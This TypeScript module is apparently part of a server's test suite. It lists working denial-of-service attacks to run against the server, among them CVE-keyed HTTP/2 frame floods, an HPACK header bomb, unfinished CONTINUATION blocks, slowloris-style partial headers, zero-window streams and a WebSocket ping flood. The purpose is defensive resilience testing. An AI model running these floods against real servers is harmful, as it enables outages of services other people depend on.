// Hostile inputs on the whole server, for somebody who may do nothing and for strangers to send again and again: floods of frames,
// fields and bodies that are made to cost much, and connections that leave something undone.
import { once } from 'node:events'
import http2 from 'node:http2'
import https from 'node:https'
import type { IncomingMessage } from 'node:http'
import type { TLSSocket } from 'node:tls'
import { indexed, indexedLiteral, literal, request } from './header-blocks.ts'
import { FULL_FIELDS, HOSTILE_BODIES, type HostileBody } from './hostile-requests.ts'
import { type Credential, dialTls, HostileClient } from '../fakes/hostile-client.ts'
import { type Flood, floodsBy, idOf } from './http2-attacks.ts'
import * as h2 from '../rigs/http2-frames.ts'
import { headersFrame, spreadFrames } from '../rigs/http2-frames.ts'

export interface Attack {
  readonly name: string
  /** Once, as far as the server lets it; what the answer is does not matter. */
  readonly send: (url: string) => Promise<void>
}

/** All that there are. */
export function attacksBy(credential: Credential): readonly Attack[] {
  return [
    ...Object.entries(floodsBy(credential)).flatMap(([cve, floods]) =>
      floods.map((flood) => ({ name: `${cve}: ${flood.name}`, send: (url: string) => sendFlood(url, flood) })),
    ),
    { name: 'a header bomb over HTTP/2', send: (url) => sendBlocks(url, (turn) => bomb(credential, turn)) },
    ...FULL_FIELDS.flatMap(([name, fields]) => [
      {
        name: `${name}, over HTTP/2`,
        send: (url: string) =>
          sendBlocks(url, () =>
            Buffer.concat([
              request('GET', '/api', credential),
              ...fields().map(([field, value]) => literal(field, value)),
            ]),
          ),
      },
      {
        name: `${name}, over HTTP/1.1`,
        send: (url: string) => sendLines(url, [...entriesOf(credential), ...fields()]),
      },
    ]),
    {
      name: 'a field of a megabyte over HTTP/1.1',
      send: (url) => sendLines(url, [['accept', 'a/b,'.repeat(250_000)]]),
    },
    ...HOSTILE_BODIES.map((body) => ({ name: body.name, send: (url: string) => sendBody(url, credential, body) })),
    { name: 'requests that are forbidden, each for something else', send: (url) => askForAnything(url, credential) },
    { name: 'handshakes', send: shakeHands },
    { name: 'field blocks that are not finished', send: leaveBlock },
    {
      name: 'a header over HTTP/1.1 that is not finished',

      send: async (url) =>
        void keep(await dialTls(url, 'http/1.1')).write(`GET /api HTTP/1.1\r\nX: ${'x'.repeat(60_000)}`),
    },
    { name: 'answers that nobody takes', send: (url) => takeNothing(url, credential) },
    {
      name: 'answers over HTTP/1.1 that nobody takes',

      send: async (url) => {
        const socket = keep(await dialTls(url, 'http/1.1')).pause()
        socket.write(`GET /openapi/v2 HTTP/1.1\r\nHost: x\r\n${linesOf(entriesOf(credential))}\r\n`.repeat(30))
      },
    },
    { name: 'a WebSocket that pings', send: (url) => ping(url, credential) },
  ]
}

/** Of one flood on one connection, where it is not cut off before. */
const MOST_UNITS = 2000

async function sendFlood(url: string, flood: Flood): Promise<void> {
  const client = await HostileClient.dial(url, flood.settings)
  if (flood.before !== undefined) client.send(...flood.before())
  await client.flood(MOST_UNITS, flood.unit)
  client.close()
}

/** A value of 4 KB that the dynamic table keeps, and then a byte for each time that it is meant. */
function bomb(credential: Credential, turn: number): Buffer {
  const named = Array.from({ length: 240 }, () => indexed(62))
  const value = turn === 0 ? [indexedLiteral('accept', 'a/b,'.repeat(1000))] : []
  return Buffer.concat([request('GET', '/api', credential), ...value, ...named])
}

/** Requests on one connection, one after another. */
const REQUESTS = 35

async function sendBlocks(url: string, blockOf: (turn: number) => Buffer): Promise<void> {
  const client = await HostileClient.dial(url)
  for (let turn = 0; turn < REQUESTS && !client.isClosed; turn++) {
    await client.write(spreadFrames(idOf(turn), blockOf(turn)))
  }
  await settled(client)
  client.close()
}

/** Or the connection is over. */
async function settled(client: HostileClient): Promise<void> {
  await Promise.race([client.settle(), once(client.socket, 'close')])
}

type Fields = readonly (readonly [string, string])[]

function entriesOf(credential: Credential): Fields {
  return Object.entries(credential)
}

function linesOf(fields: Fields): string {
  return fields.map(([name, value]) => `${name}: ${value}\r\n`).join('')
}

async function sendLines(url: string, fields: Fields): Promise<void> {
  const socket = await dialTls(url, 'http/1.1')
  const text = `GET /api HTTP/1.1\r\nHost: x\r\n${linesOf(fields)}\r\n`
  const closed = once(socket, 'close')
  for (let turn = 0; turn < REQUESTS && !socket.destroyed; turn++) {
    socket.write(text)
    await Promise.race([once(socket, 'data'), closed])
  }
  socket.destroy()
}

const agent = new https.Agent({ keepAlive: true, rejectUnauthorized: false })

async function sendBody(url: string, credential: Credential, { method, path, type, text }: HostileBody): Promise<void> {
  const headers = { ...credential, 'content-type': type, 'content-length': text().length }
  const sent = https.request(`${url}${path}`, { method, agent, headers })
  sent.on('error', () => {})
  sent.end(text())
  const [answer] = (await once(sent, 'response')) as [IncomingMessage]
  await once(answer.resume(), 'close')
}

async function askForAnything(url: string, credential: Credential): Promise<void> {
  const client = await HostileClient.dial(url)
  for (let turn = 0; turn < 100 && !client.isClosed; turn++) {
    const any = Math.random().toString(36).slice(2)
    const path = `/apis/${any}.example/v1/namespaces/${any}/${any}/${any}`
    const fields = { ...credential, 'user-agent': any }
    await client.write(
      headersFrame(idOf(turn), request(turn % 2 === 0 ? 'GET' : any.toUpperCase(), path, fields), true),
    )
  }
  await settled(client)
  client.close()
}

async function shakeHands(url: string): Promise<void> {
  const sockets = await Promise.all(Array.from({ length: 10 }, () => dialTls(url, 'h2')))
  for (const socket of sockets) socket.destroy()
}

/** Connections that are left as they are; of more than so many the oldest is given up. */
const MOST_KEPT = 200
const kept: TLSSocket[] = []

function keep(socket: TLSSocket): TLSSocket {
  kept.push(socket)
  if (kept.length > MOST_KEPT) kept.shift()!.destroy()
  return socket
}

async function leaveBlock(url: string): Promise<void> {
  const client = await HostileClient.dial(url)
  keep(client.socket as TLSSocket)
  const piece = literal('x', 'y'.repeat(15_000))
  const [first, more] = [h2.HEADERS, h2.CONTINUATION].map((type) => h2.frame({ type, flags: 0, stream: 1 }, piece))
  await client.write(Buffer.concat([first!, more!, more!, more!]))
}

async function takeNothing(url: string, credential: Credential): Promise<void> {
  const session = http2.connect(url, { rejectUnauthorized: false, settings: { initialWindowSize: 0 } })
  session.on('error', () => {})
  await once(session, 'remoteSettings')
  keep(session.socket as TLSSocket)
  const { method, path, type, text } = HOSTILE_BODIES[0]!
  for (let turn = 0; turn < 50; turn++) {
    const isBody = turn % 10 === 0
    const head = isBody ? { ':method': method, ':path': path, 'content-type': type } : { ':path': '/openapi/v2' }
    const stream = session.request({ ...head, ...credential })
    stream.on('error', () => {})
    stream.end(isBody ? text() : undefined)
  }
}

async function ping(url: string, credential: Credential): Promise<void> {
  const socket = keep(await dialTls(url, 'http/1.1'))
  const asked: Fields = [
    ['Connection', 'Upgrade'],
    ['Upgrade', 'websocket'],
    ['Sec-WebSocket-Version', '13'],
    ['Sec-WebSocket-Key', 'dGhlIHNhbXBsZSBub25jZQ=='],
  ]
  socket.write(`GET /api/v1/pods?watch=1 HTTP/1.1\r\nHost: x\r\n${linesOf([...entriesOf(credential), ...asked])}\r\n`)
  await Promise.race([once(socket, 'data'), once(socket, 'close')])
  socket.pause()
  // With as much as it may have, masked with zeroes.
  const one = Buffer.concat([Buffer.of(0x89, 0x80 | 125, 0, 0, 0, 0), Buffer.alloc(125)])
  socket.write(Buffer.concat(Array.from({ length: 5000 }, () => one)))
}
